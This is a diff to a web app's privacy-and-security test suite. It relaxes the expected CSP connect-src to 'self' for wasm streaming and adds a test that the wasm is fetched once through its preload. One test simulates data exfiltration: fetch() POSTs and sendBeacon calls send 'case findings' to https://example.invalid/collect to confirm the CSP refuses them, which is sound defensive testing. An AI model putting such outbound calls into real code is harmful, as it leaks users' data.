@@ -56,7 +56,8 @@ describe("privacy and security", () => {
     assert.equal(response.status, 200);
     const html = await response.text();
     const csp = cspOf(html);
-    assert.deepEqual(csp["connect-src"], ["'none'"]);
+    // The page's own origin only: the wasm streams from it (and the app sends nothing).
+    assert.deepEqual(csp["connect-src"], ["'self'"]);
     assert.ok(csp["script-src"], "a script-src directive");
     assert.ok(!csp["script-src"].includes("'unsafe-inline'"), `script-src without 'unsafe-inline': ${csp["script-src"]}`);
     assert.ok(!csp["script-src"].includes("'unsafe-eval'"), `script-src without 'unsafe-eval': ${csp["script-src"]}`);
@@ -104,33 +105,43 @@ describe("privacy and security", () => {
     assert.match((await calc.storage())["yj-rating.library"], /Working copy/);
   });
 
-  test("fetch() from the page is refused by the CSP", { timeout: 30_000 }, async (t) => {
+  test("fetch() to another origin is refused by the CSP", { timeout: 30_000 }, async (t) => {
     const { session, page } = await env.open(t);
     session.allowConsole(/Content Security Policy|Refused to connect|Failed to fetch/);
-    // The service worker's precache loads the page's files again just after start; let it
-    // finish, so that only the attempts below could reach the server.
-    await page.evaluate(async () => (await navigator.serviceWorker.ready).scope);
-    const hitsBefore = env.server.hits.length;
     const outcome = await page.evaluate(async () => {
       const violations = [];
       document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
-      const attempt = (url) =>
-        fetch(url, { method: "POST", body: "case findings" }).then(
-          () => "sent",
-          (e) => `${e.name}: ${e.message}`,
-        );
-      const local = await attempt("./index.html");
-      const remote = await attempt("https://example.invalid/collect");
+      const remote = await fetch("https://example.invalid/collect", { method: "POST", body: "case findings" }).then(
+        () => "sent",
+        (e) => `${e.name}: ${e.message}`,
+      );
       // sendBeacon queues without saying; the CSP stops it before it leaves.
-      navigator.sendBeacon("./collect", "case findings");
+      navigator.sendBeacon("https://example.invalid/collect", "case findings");
       await new Promise((r) => setTimeout(r, 300));
-      return { local, remote, violations };
+      return { remote, violations };
     });
-    assert.match(outcome.local, /^TypeError/, "a same-origin fetch is refused");
     assert.match(outcome.remote, /^TypeError/, "a cross-origin fetch is refused");
-    assert.deepEqual(outcome.violations, ["connect-src", "connect-src", "connect-src"], "each attempt is a connect-src violation");
-    await new Promise((r) => setTimeout(r, 200));
-    assert.deepEqual(env.server.hits.slice(hitsBefore), [], "nothing reached the server");
+    assert.deepEqual(outcome.violations, ["connect-src", "connect-src"], "each attempt is a connect-src violation");
+    assert.deepEqual(session.foreignRequests(), []);
+  });
+
+  test("the wasm streams: fetched once through its preload, as application/wasm", { timeout: 30_000 }, async (t) => {
+    // Without the service worker, whose precache would fetch every file again.
+    const { page } = await env.open(t, { context: { serviceWorkers: "block" }, navigate: false });
+    const warnings = [];
+    page.on("console", (msg) => warnings.push(msg.text()));
+    const before = env.server.hits.length;
+    await page.goto(env.url);
+    await waitForApp(page);
+    // Chromium warns of a preload left unused a few seconds after the load.
+    await page.waitForTimeout(3500);
+    const wasm = env.server.hits.slice(before).filter((h) => h.url.endsWith(".wasm"));
+    assert.equal(wasm.length, 1, "the preload and the boot module share one request");
+    assert.deepEqual(
+      warnings.filter((w) => /instantiateStreaming|preload/i.test(w)),
+      [],
+      "no fallback from streaming, no unused preload",
+    );
   });
 
   test("window.yjRating.score scores a scenario object and throws on an invalid one", { timeout: 30_000 }, async (t) => {
